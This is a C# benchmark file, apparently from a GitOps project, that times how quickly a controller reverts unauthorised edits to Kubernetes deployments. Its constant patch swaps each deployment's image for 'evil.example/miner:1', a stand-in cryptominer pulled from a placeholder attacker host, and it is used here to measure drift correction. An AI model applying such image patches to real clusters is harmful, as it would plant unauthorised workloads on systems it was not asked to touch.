using k8s;
using k8s.Models;
using OrleansGitOps.Benchmarks.Figures;

namespace OrleansGitOps.Benchmarks.Load;

/// <summary>Somebody who sets a foreign image by hand, in one application of the fleet after the other.</summary>
internal static class RogueEdits
{
    private const string Patch = """[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"evil.example/miner:1"}]""";

    /// <summary>One edit per object, since a second one would measure the back-off. From sending the edit to the event of its revert.</summary>
    public static async Task<Samples> RunAsync(Kubernetes kube, DeploymentWatch watch, int count)
    {
        var times = new List<TimeSpan>();
        for (var each = 0; each < count; each++)
        {
            var (ns, name) = (FleetFiles.Namespace(each), $"{FleetFiles.Name(each)}-web");
            times.Add(await watch.TimeAsync(
                ns, name, live => live.Image() == FleetFiles.FirstImage,
                () => kube.AppsV1.PatchNamespacedDeploymentAsync(new V1Patch(Patch, V1Patch.PatchType.JsonPatch), name, ns), afterOther: true));
        }

        return new Samples(times);
    }

    /// <summary>Of the first container.</summary>
    public static string Image(this V1Deployment live) => live.Spec.Template.Spec.Containers[0].Image;
}
